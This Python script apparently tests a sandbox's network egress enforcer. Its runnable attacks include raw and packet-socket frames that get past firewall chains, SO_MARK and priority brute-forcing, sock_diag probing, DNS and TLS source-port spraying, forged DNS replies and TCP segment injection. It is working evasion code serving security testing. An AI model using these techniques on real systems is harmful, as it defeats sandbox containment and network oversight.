"""Attacks on an enforcer that lives in the sandbox's own network namespace. The first argument names the attack."""

from __future__ import annotations

import ctypes
import random
import socket
import ssl
import struct
import sys
from collections.abc import Callable

SOL_PACKET, PACKET_QDISC_BYPASS, SO_PRIORITY, SO_MARK, SO_ATTACH_FILTER = 263, 20, 12, 36, 26
ETH_P_ALL, ETH_P_IP, ETH_P_ARP, ETH_P_IPV6 = 3, 0x0800, 0x0806, 0x86DD
IPV6_FREEBIND = 78


def checksum(data: bytes) -> int:
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def datagram(source: str, target: str, source_port: int, port: int, payload: bytes) -> bytes:
    """An IPv4 packet with a UDP datagram."""
    udp = struct.pack("!HHHH", source_port, port, 8 + len(payload), 0) + payload
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0)
    head += socket.inet_aton(source) + socket.inet_aton(target)
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + udp


def datagram6(source: str, target: str, source_port: int, port: int, payload: bytes) -> bytes:
    """An IPv6 packet with a UDP datagram."""
    ends = socket.inet_pton(socket.AF_INET6, source) + socket.inet_pton(socket.AF_INET6, target)
    length = 8 + len(payload)

    def udp(total: int) -> bytes:
        return struct.pack("!HHHH", source_port, port, length, total) + payload

    padded = ends + struct.pack("!IHBB", length, 0, 0, 17) + udp(0) + bytes(length % 2)
    return struct.pack("!IHBB", 6 << 28, length, 17, 64) + ends + udp(checksum(padded) or 0xFFFF)


def segment(source: str, target: str, ports: tuple[int, int], numbers: tuple[int, int], payload: bytes) -> bytes:
    """An IPv4 packet with a TCP segment of a connection that is there."""
    head = struct.pack("!HHIIBBHHH", *ports, *numbers, 5 << 4, 0x18, 500, 0, 0)
    ends = socket.inet_aton(source) + socket.inet_aton(target)
    covered = ends + struct.pack("!HH", 6, len(head) + len(payload)) + head + payload
    head = head[:16] + struct.pack("!H", checksum(covered + bytes(len(covered) % 2))) + head[18:]
    outer = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(head) + len(payload), 1, 0, 64, 6, 0) + ends
    return outer[:10] + struct.pack("!H", checksum(outer)) + outer[12:] + head + payload


def question(name: str, identifier: int) -> bytes:
    """A query for a name's IPv4 addresses."""
    labels = b"".join(bytes([len(label)]) + label for label in name.encode().split(b"."))
    return struct.pack("!HHHHHH", identifier, 0x0100, 1, 0, 0, 0) + labels + b"\0\0\x01\0\x01"


def deliver(way: str, target: str, packet: bytes) -> None:
    """Sends a packet of one's own making on the loopback: "raw" before the rules, otherwise as a frame, behind them."""
    if way == "raw":
        with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sender:
            sender.sendto(packet, (target, 0))
    else:
        with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_IP)) as sender:
            sender.sendto(packet, ("lo", ETH_P_IP, 0, 0, bytes(6)))


def packet_socket(bypass: str, source: str, target: str, port: str, mac: str, called: str = "") -> None:
    """Puts a frame on the wire behind every inet chain. What is sent need not be what the socket calls it, by a number of the
    protocol that is not the frame's own."""
    kind, build = (ETH_P_IPV6, datagram6) if ":" in target else (ETH_P_IP, datagram)
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0) as sender:
        device = next(name for _, name in socket.if_nameindex() if name != "lo")
        sender.bind((device, int(called, 16) if called else kind))
        if bypass == "bypass":
            sender.setsockopt(SOL_PACKET, PACKET_QDISC_BYPASS, 1)
        own = sender.getsockname()[4]
        frame = bytes.fromhex(mac.replace(":", "")) + own + struct.pack("!H", kind)
        for _ in range(3):
            sender.send(frame + build(source, target, 5555, int(port), b"stolen by a frame"))


def address_resolution(bypass: str, source: str, target: str, payload: str) -> None:
    """Puts frames of ARP on the wire, with something behind the message."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0) as sender:
        sender.bind((next(name for _, name in socket.if_nameindex() if name != "lo"), ETH_P_ARP))
        if bypass == "bypass":
            sender.setsockopt(SOL_PACKET, PACKET_QDISC_BYPASS, 1)
        own = sender.getsockname()[4]
        frame = b"\xff" * 6 + own + struct.pack("!HHHBBH", ETH_P_ARP, 1, ETH_P_IP, 6, 4, 1)
        sender.send(frame + own + socket.inet_aton(source) + bytes(6) + socket.inet_aton(target) + payload.encode())


def marks(target: str, port: str) -> None:
    """Tries marks and priorities that somebody might trust."""
    numbers = [1 << bit for bit in range(32)] + list(range(256)) + [random.getrandbits(32) for _ in range(500)]
    family = socket.AF_INET6 if ":" in target else socket.AF_INET
    for number in numbers:
        with socket.socket(family, socket.SOCK_DGRAM) as sender:
            sender.setsockopt(socket.SOL_SOCKET, SO_MARK, struct.pack("I", number))
            sender.setsockopt(socket.SOL_SOCKET, SO_PRIORITY, struct.pack("I", number & 0x7FFFFFFF))
            try:
                sender.sendto(b"stolen by a mark", (target, int(port)))
            except PermissionError:
                continue


def priorities() -> set[int]:
    """Those of the TCP and UDP sockets of this network, whoever has them. The kernel tells marks to CAP_NET_ADMIN alone, priorities
    to everybody (INET_DIAG_CLASS_ID of sock_diag(7), which comes with INET_DIAG_TCLASS)."""
    found = set()
    for family in (socket.AF_INET, socket.AF_INET6):
        for protocol in (socket.IPPROTO_TCP, socket.IPPROTO_UDP):
            with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 4) as asking:  # NETLINK_SOCK_DIAG
                question = struct.pack("=BBBBI", family, protocol, 1 << 5, 0, 0xFFFFFFFF) + bytes(48)
                # SOCK_DIAG_BY_FAMILY, NLM_F_REQUEST | NLM_F_DUMP
                asking.send(struct.pack("=IHHII", 16 + len(question), 20, 0x301, 1, 0) + question)
                kind = 20
                while kind == 20:
                    answer = asking.recv(1 << 20)
                    while answer and kind == 20:
                        length, kind = struct.unpack_from("=IH", answer)
                        # struct inet_diag_msg has 72 bytes.
                        attributes, answer = answer[16 + 72 : length], answer[(length + 3) & ~3 :]
                        while kind == 20 and len(attributes) >= 4:
                            size, number = struct.unpack_from("=HH", attributes)
                            if number == 17:
                                found.add(struct.unpack_from("=I", attributes, 4)[0])
                            attributes = attributes[(size + 3) & ~3 :]
    return found


def marked(bit: int) -> int:
    """How many TCP sockets of this network have a bit in their mark (INET_DIAG_BC_MARK_COND of sock_diag(7))."""
    # An operation that goes on to the end where the condition holds, and past it where not.
    condition = struct.pack("=BBHII", 10, 12, 16, 1 << bit, 1 << bit)
    question = struct.pack("=BBBBI", socket.AF_INET, socket.IPPROTO_TCP, 0, 0, 0xFFFFFFFF) + bytes(48)
    question += struct.pack("=HH", 4 + len(condition), 1) + condition
    count = 0
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 4) as asking:
        asking.send(struct.pack("=IHHII", 16 + len(question), 20, 0x301, 1, 0) + question)
        while True:
            answer = asking.recv(1 << 20)
            while answer:
                length, kind = struct.unpack_from("=IH", answer)
                if kind == 2:  # NLMSG_ERROR
                    raise OSError(-struct.unpack_from("=i", answer, 16)[0], "refused")
                if kind == 3:  # NLMSG_DONE
                    return count
                count, answer = count + 1, answer[(length + 3) & ~3 :]


def bits(name: str) -> None:
    """Asks for the mark of the enforcer's own sockets bit by bit, while it carries a connection to an allowed server."""
    context = ssl.create_default_context()
    with context.wrap_socket(socket.create_connection((name, 443), 8), server_hostname=name):
        for bit in range(32):
            try:
                print("bit", bit, "of", marked(bit), flush=True)
            except OSError as error:
                print(error, flush=True)
    print("tried everything", flush=True)


def guess(name: str, target: str, port: str, *marks: str) -> None:
    """Finds out the priority of the enforcer's own sockets while it carries a connection to an allowed server, and tries marks
    beside it: ranges, and single ones."""
    context = ssl.create_default_context()
    with context.wrap_socket(socket.create_connection((name, 443), 8), server_hostname=name):
        seen = {number for number in priorities() if number > 6}
    print("seen", *seen, flush=True)
    family = socket.AF_INET6 if ":" in target else socket.AF_INET
    tries = [number for text in marks for first, _, last in [text.partition("-")] for number in range(int(first), int(last or first) + 1)]
    with socket.socket(family, socket.SOCK_DGRAM) as sender:
        for priority in seen or {0}:
            sender.setsockopt(socket.SOL_SOCKET, SO_PRIORITY, struct.pack("I", priority))
            for mark in tries:
                option = (socket.SOL_SOCKET, SO_MARK, struct.pack("I", mark & 0xFFFFFFFF))
                try:
                    sender.sendmsg([b"stolen by mark %d" % mark], [option], 0, (target, int(port)))
                except OSError:
                    continue
    print("tried everything", flush=True)


def spy(own_mark: str) -> None:
    """Looks for packets that leave with a mark; one of its own making, if asked, shows that it would see them."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL)) as watcher:
        watcher.bind(("eth0", ETH_P_ALL))
        # ld mark; jeq 0 -> ret 0; ret 65535
        program = [(0x20, 0, 0, 0xFFFFF000 + 20), (0x15, 0, 1, 0), (0x06, 0, 0, 0), (0x06, 0, 0, 65535)]
        code = ctypes.create_string_buffer(b"".join(struct.pack("HBBI", *step) for step in program))
        watcher.setsockopt(socket.SOL_SOCKET, SO_ATTACH_FILTER, struct.pack("HL", len(program), ctypes.addressof(code)))
        watcher.settimeout(2)
        while True:
            # What came before the filter.
            try:
                watcher.setblocking(False)
                watcher.recv(65536)
            except BlockingIOError:
                break
        watcher.settimeout(2)
        print("watching", flush=True)
        if int(own_mark):
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
                sender.setsockopt(socket.SOL_SOCKET, SO_MARK, struct.pack("I", int(own_mark)))
                sender.sendto(b"marked", ("198.51.100.66", 4444))
        sys.stdin.readline()
        try:
            watcher.recv(65536)
            print("seen", flush=True)
        except TimeoutError:
            print("nothing", flush=True)


def spray(target: str, low: str, high: str, label: str) -> None:
    """From every port that the enforcer may have asked the DNS server from, asks it something of its own."""
    for port in range(int(low), int(high) + 1):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
            try:
                sender.bind(("0.0.0.0", port))
            except OSError:
                continue
            sender.sendto(question(f"x{port}.{label}", port), (target, 53))
            sender.settimeout(0.02)
            try:
                sender.recv(512)
            except (TimeoutError, ConnectionError):
                continue


def spray_tls(target: str, low: str, high: str, name: str) -> None:
    """From every port that the enforcer may have dialled a web server from, asks that server for something else."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    for port in range(int(low), int(high) + 1):
        with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as connection:
            connection.settimeout(1)
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            try:
                connection.bind(("0.0.0.0", port))
                connection.connect((target, 443))
                with context.wrap_socket(connection, server_hostname=name) as session:
                    session.sendall(f"GET /sprayed HTTP/1.1\r\nHost: {name}\r\n\r\n".encode())
                    session.recv(512)
            except OSError:
                continue


def forge(way: str, source: str, target: str, port: str, message: str) -> None:
    """Answers a query of a program here in the name of its nameserver, without a packet from outside."""
    payload = bytes.fromhex(message)
    if way == "freebind":
        # The kernel lets anybody bind to an address that is not the machine's.
        with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as sender:
            sender.setsockopt(socket.IPPROTO_IPV6, IPV6_FREEBIND, 1)
            sender.bind((source, 53))
            sender.sendto(payload, (target, int(port)))
        return
    deliver(way, target, datagram(source, target, 53, int(port), payload))


def inject(way: str, target: str, port: str, message: str) -> None:
    """Watches a connection from outside to a port of this network, and when an answer has gone there, goes on in the name of who
    began it."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_ALL)) as watcher:
        watcher.bind(("eth0", ETH_P_ALL))
        watcher.settimeout(10)
        print("watching", flush=True)
        own = socket.inet_aton(target)
        while True:
            packet = watcher.recv(65536)
            if packet[0] != 0x45 or packet[9] != 6 or packet[12:16] != own:
                continue
            ports = struct.unpack_from("!HH", packet, 20)
            number, acknowledged = struct.unpack_from("!II", packet, 24)
            size = struct.unpack_from("!H", packet, 2)[0] - 20 - (packet[32] >> 4) * 4
            if ports[0] == int(port) and size > 0:
                break
        peer = socket.inet_ntoa(packet[16:20])
        made = segment(peer, target, (ports[1], ports[0]), (acknowledged, number + size & 0xFFFFFFFF), bytes.fromhex(message))
        deliver(way, target, made)
        print("sent in the name of", peer, flush=True)


if __name__ == "__main__":
    attacks: dict[str, Callable[..., None]] = {"packet": packet_socket, "marks": marks, "spy": spy, "spray": spray}
    attacks |= {"forge": forge, "spray-tls": spray_tls, "guess": guess, "inject": inject, "arp": address_resolution, "bits": bits}
    attacks[sys.argv[1]](*sys.argv[2:])
